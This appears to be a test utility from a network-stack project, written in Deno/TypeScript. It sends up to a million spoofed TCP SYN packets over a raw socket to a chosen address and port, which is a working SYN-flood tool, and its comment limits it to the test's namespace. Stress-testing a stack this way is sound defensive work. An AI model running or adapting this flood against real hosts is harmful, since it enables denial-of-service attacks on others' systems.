// A bounded SYN flood (packets from tests/_packets.ts): `count` SYNs from spoofed sources in 198.51.100.0/24
// (ports vary too) to `dst`:`port`, spread over `ms` milliseconds, through a
// raw socket with IP_HDRINCL. Run inside the test's namespace only.
//
//   deno run --allow-ffi syn_flood.ts 192.0.2.2 80 100000 4000

import { parseIp } from "../../stack/wire/ip_address.ts";
import { ip, ipv4, tcpBytes } from "../_packets.ts";

const lib = Deno.dlopen("libc.so.6", {
  socket: { parameters: ["i32", "i32", "i32"], result: "i32" },
  sendto: { parameters: ["i32", "buffer", "usize", "i32", "buffer", "u32"], result: "isize" },
  close: { parameters: ["i32"], result: "i32" },
});
const [dstText, portText, countText, msText] = Deno.args;
const dst = parseIp(dstText ?? "");
const port = Number(portText), count = Number(countText), ms = Number(msText);
if (
  !dst || dst.length !== 4 || !(port > 0) || !(count > 0) || !(count <= 1_000_000) || !(ms >= 0)
) {
  console.error("Usage: syn_flood.ts IPV4 PORT COUNT(<=1000000) MS");
  Deno.exit(2);
}
const fd = lib.symbols.socket(2, 3, 255); // AF_INET, SOCK_RAW, IPPROTO_RAW
if (fd < 0) {
  console.error("syn_flood: socket failed (needs root)");
  Deno.exit(1);
}
const sa = new Uint8Array(16);
sa[0] = 2;
sa.set(dst, 4);
const start = performance.now();
let sent = 0;
for (let i = 0; i < count; i++) {
  // A new spoofed source address, port and ISN each time; an MSS option as a real SYN has.
  const src = `198.51.100.${1 + (i % 250)}`;
  const seg = tcpBytes(ip(src), dst, {
    sport: 1024 + ((i * 7) % 60000),
    dport: port,
    seq: i,
    flags: "S",
    mss: 1460,
  });
  const pkt = ipv4(src, dstText, 6, seg);
  if (Number(lib.symbols.sendto(fd, pkt, BigInt(pkt.length), 0, sa, 16)) === pkt.length) sent++;
  // Pace: stay on schedule for `ms`, in steps of 1,000 packets.
  if (i % 1000 === 999) {
    const due = start + (ms * (i + 1)) / count;
    const wait = due - performance.now();
    if (wait > 0) await new Promise((r) => setTimeout(r, wait));
  }
}
lib.symbols.close(fd);
console.log(`sent ${sent} SYNs in ${Math.round(performance.now() - start)} ms`);
